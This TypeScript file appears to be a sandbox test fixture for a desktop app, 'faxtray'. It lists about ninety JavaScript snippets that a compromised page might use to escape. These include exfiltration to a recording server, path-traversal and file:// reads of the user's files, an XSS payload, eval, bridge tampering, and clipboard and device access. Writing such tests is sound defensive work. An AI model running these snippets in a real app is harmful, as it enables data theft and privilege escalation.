/**
 * What a compromised page may try in order to get a word out, or to get more than a page may have. All of it runs in the page itself;
 * `open` is a server that records everything that arrives, `udp` a socket that does, and `file` is one of the person's files.
 */
export interface Outside {
  readonly open: string;
  readonly udp: number;
  readonly file: string;
}

export interface Way {
  readonly name: string;
  /**
   * Returns the outcome: `refused`, however that is expressed, or what was obtained. It may also do something that only `open` notices.
   */
  readonly take: string;
}

const element = (tag: string, set: string): string =>
  `const e = document.createElement('${tag}'); ${set}; document.body.append(e); await settled(e); e.remove(); return 'tried'`;
const asked = (name: string): string =>
  `return (await navigator.permissions.query({ name: '${name}' })).state`;

/** 55 of them, and a few more. `settled`, `open`, `socket`, `udp`, `file` and `word` are given. */
const WAYS: Readonly<Record<string, string>> = {
  // Requests.
  fetch: 'await fetch(open + "/fetch"); return "got"',
  'fetch without an answer': 'await fetch(open + "/no-cors", { mode: "no-cors" }); return "got"',
  'fetch that outlives the page':
    'await fetch(open + "/keepalive", { method: "POST", keepalive: true, mode: "no-cors", body: word }); return "got"',
  XMLHttpRequest:
    'const x = new XMLHttpRequest(); x.open("GET", open + "/xhr", false); x.send(); return "got"',
  beacon: 'return navigator.sendBeacon(open + "/beacon", word) ? "tried" : "refused"',
  EventSource:
    'const s = new EventSource(open + "/events"); await settled(s, "open", "error"); s.close(); return "tried"',
  WebSocket:
    'const s = new WebSocket(socket); await settled(s, "open", "error", "close"); return s.readyState === 1 ? "got" : "refused"',
  WebTransport: 'const t = new WebTransport(open.replace("http:", "https:")); await t.ready; return "got"',
  WebRTC:
    'const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + udp }] }); p.createDataChannel("x"); const done = new Promise((r) => { p.onicegatheringstatechange = () => p.iceGatheringState === "complete" && r(); }); await p.setLocalDescription(); await done; p.close(); return "tried"',
  'fetch of the app with another method':
    'return (await fetch("/", { method: "POST", body: word })).ok ? "got" : "refused"',
  // What elements fetch.
  image: element('img', 'e.src = open + "/img?" + word'),
  'image set': element('img', 'e.srcset = open + "/srcset 1x"'),
  picture: element(
    'picture',
    'const s = document.createElement("source"); s.srcset = open + "/source"; e.append(s, new Image())',
  ),
  script: element('script', 'try { e.src = open + "/script.js" } catch { return "refused" }'),
  'script of a module': element(
    'script',
    'e.type = "module"; try { e.src = open + "/module.js" } catch { return "refused" }',
  ),
  'style sheet': element('link', 'e.rel = "stylesheet"; e.href = open + "/style.css"'),
  'style of its own': element('style', 'e.textContent = "body { background: url(" + open + "/css) }"'),
  'style attribute': element('div', 'e.setAttribute("style", "background: url(" + open + "/attribute)")'),
  'style by script': element('div', 'e.style.backgroundImage = "url(" + open + "/cssom)"'),
  font: 'const f = new FontFace("way-out", "url(" + open + "/font)"); await f.load(); return "got"',
  video: element('video', 'e.src = open + "/video"'),
  poster: element('video', 'e.poster = open + "/poster"'),
  audio: element('audio', 'e.src = open + "/audio"'),
  track: element('track', 'e.src = open + "/track"'),
  object: element('object', 'try { e.data = open + "/object" } catch { return "refused" }'),
  embed: element('embed', 'try { e.src = open + "/embed" } catch { return "refused" }'),
  frame: element('iframe', 'e.src = open + "/frame"'),
  'frame with a page of its own': element(
    'iframe',
    'try { e.srcdoc = "<img src=" + open + "/srcdoc>" } catch { return "refused" }',
  ),
  'frame of data': element('iframe', 'e.src = "data:text/html,<img src=" + open + "/data>"'),
  webview: element('webview', 'e.setAttribute("src", open + "/webview")'),
  'svg image':
    'const s = document.createElementNS("http://www.w3.org/2000/svg", "image"); s.setAttribute("href", open + "/svg"); const g = document.createElementNS("http://www.w3.org/2000/svg", "svg"); g.append(s); document.body.append(g); await settled(s); g.remove(); return "tried"',
  preload: element('link', 'e.rel = "preload"; e.as = "image"; e.href = open + "/preload"'),
  prefetch: element('link', 'e.rel = "prefetch"; e.href = open + "/prefetch"'),
  preconnect: element('link', 'e.rel = "preconnect"; e.href = open'),
  'name asked for ahead': element(
    'link',
    'e.rel = "dns-prefetch"; e.href = "//" + word + ".way-out.invalid"',
  ),
  manifest: element('link', 'e.rel = "manifest"; e.href = open + "/manifest"'),
  icon: element('link', 'e.rel = "icon"; e.href = open + "/icon"'),
  'other base': element(
    'base',
    'e.href = open + "/"; const i = new Image(); i.src = "relative"; await settled(i); if (document.baseURI.startsWith(open)) return "got"',
  ),
  'page that refreshes elsewhere': element(
    'meta',
    'e.httpEquiv = "refresh"; e.content = "0;url=" + open + "/refresh"',
  ),
  // Other pages.
  'window of its own': 'return window.open(open + "/window") === null ? "refused" : "got"',
  'link in a window of its own':
    'const a = document.createElement("a"); a.href = open + "/blank"; a.target = "_blank"; a.click(); return "tried"',
  'link with a ping':
    'const a = document.createElement("a"); a.href = "#"; a.ping = open + "/ping"; a.click(); return "tried"',
  'other address': 'location.href = open + "/location"; return "tried"',
  'other address in place of this': 'location.replace(open + "/replace"); return "tried"',
  'address of a script':
    'location.href = "javascript:document.title=\'got\'"; await new Promise((r) => setTimeout(r)); return document.title === "got" ? "got" : "refused"',
  'address of data': 'location.href = "data:text/html,got"; return "tried"',
  'address of a file': 'location.href = "file://" + file; return "tried"',
  form: 'const f = document.createElement("form"); f.action = open + "/form"; f.method = "POST"; document.body.append(f); f.submit(); f.remove(); return "tried"',
  'form in a window of its own':
    'const f = document.createElement("form"); f.action = open + "/form-blank"; f.target = "_blank"; document.body.append(f); f.submit(); f.remove(); return "tried"',
  'address of another program': 'location.href = "mailto:somebody@example.com?body=" + word; return "tried"',
  download:
    'const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([word])); a.download = "way-out.exe"; a.click(); return "tried"',
  'download from elsewhere':
    'const a = document.createElement("a"); a.href = open + "/download"; a.download = "way-out.exe"; a.click(); return "tried"',
  // The person's files.
  'file by fetch': 'await fetch("file://" + file); return "got"',
  'file by image': element(
    'img',
    'e.src = "file://" + file; await settled(e); if (e.naturalWidth > 0) return "got"',
  ),
  'file beside the app':
    'const r = await fetch("app://faxtray/..%2f..%2f..%2f..%2f..%2f.." + file); return r.ok ? "got" : "refused"',
  'file by the app under another name': 'await fetch("app://elsewhere" + file); return "got"',
  'file by the bridge':
    'const path = window.faxtray.pathForFile(new File([word], file)); return path === "" ? "refused" : "got"',
  // Programs.
  eval: 'return (0, eval)("\'got\'")',
  'function of text': 'return new Function("return \'got\'")()',
  'timer of text':
    'window.wayOut = ""; setTimeout("window.wayOut = \'got\'"); await new Promise((r) => setTimeout(r, 1)); return window.wayOut || "refused"',
  'handler of text': element(
    'div',
    'e.setAttribute("onclick", "window.wayOut2 = \'got\'"); e.click(); if (window.wayOut2) return "got"',
  ),
  'html of text': 'document.createElement("div").innerHTML = "<img src=x onerror=alert(1)>"; return "got"',
  'policy of its own for text':
    'trustedTypes.createPolicy("way-out", { createScript: (text) => text }); return "got"',
  'import of a program': 'await import(open + "/import.js"); return "got"',
  'import of data': 'await import("data:text/javascript,export default 1"); return "got"',
  worker:
    'const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); await settled(w, "message", "error"); return "tried"',
  'shared worker':
    'const w = new SharedWorker("data:text/javascript,0"); await settled(w, "error"); return "tried"',
  'service worker': 'await navigator.serviceWorker.register("/sw.js"); return "got"',
  'program of another kind':
    'await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return "got"',
  Node: 'return typeof require === "undefined" && typeof process === "undefined" && typeof module === "undefined" ? "refused" : "got"',
  'the bridge made over':
    'try { window.faxtray.call = () => "got" } catch { return "refused" } return window.faxtray.call.toString().includes("got") ? "got" : "refused"',
  'operation without a name': 'await window.faxtray.call("constructor", null); return "got"',
  'channel by message': 'window.postMessage({ type: "ipc", channel: "faxtray:call" }, "*"); return "tried"',
  // What the system asks for.
  'reading the clipboard': 'return await navigator.clipboard.readText()',
  'writing the clipboard': 'await navigator.clipboard.writeText(word); return "got"',
  camera: 'await navigator.mediaDevices.getUserMedia({ video: true }); return "got"',
  microphone: 'await navigator.mediaDevices.getUserMedia({ audio: true }); return "got"',
  screen: 'await navigator.mediaDevices.getDisplayMedia(); return "got"',
  place:
    'return await new Promise((r) => navigator.geolocation.getCurrentPosition(() => r("got"), () => r("refused")))',
  notifications: 'return await Notification.requestPermission()',
  midi: 'await navigator.requestMIDIAccess({ sysex: true }); return "got"',
  usb: 'await navigator.usb.requestDevice({ filters: [] }); return "got"',
  serial: 'await navigator.serial.requestPort(); return "got"',
  hid: 'return (await navigator.hid.requestDevice({ filters: [] })).length === 0 ? "refused" : "got"',
  bluetooth: 'await navigator.bluetooth.requestDevice({ acceptAllDevices: true }); return "got"',
  'fonts of the machine': 'return (await window.queryLocalFonts()).length === 0 ? "refused" : "got"',
  'idle watch': 'return await IdleDetector.requestPermission()',
  'staying awake': 'await navigator.wakeLock.request("screen"); return "got"',
  'whole screen':
    'document.documentElement.requestFullscreen().catch(() => 0); await settled(document, "fullscreenchange", "fullscreenerror"); return document.fullscreenElement === null ? "refused" : "got"',
  'keyboard lock': 'void navigator.keyboard.lock().catch(() => 0); return "tried"',
  'pointer lock':
    'document.body.requestPointerLock(); return document.pointerLockElement === null ? "refused" : "got"',
  'protocol handler': 'navigator.registerProtocolHandler("web+wayout", "app://faxtray/?%s"); return "tried"',
  'place to stay': 'return await navigator.storage.persist() ? "got" : "refused"',
  'permission for notifications': asked('notifications'),
  'permission for the clipboard': asked('clipboard-read'),
  'permission for the camera': asked('camera'),
};

export const WAYS_OUT: readonly Way[] = Object.entries(WAYS).map(([name, take]) => ({ name, take }));
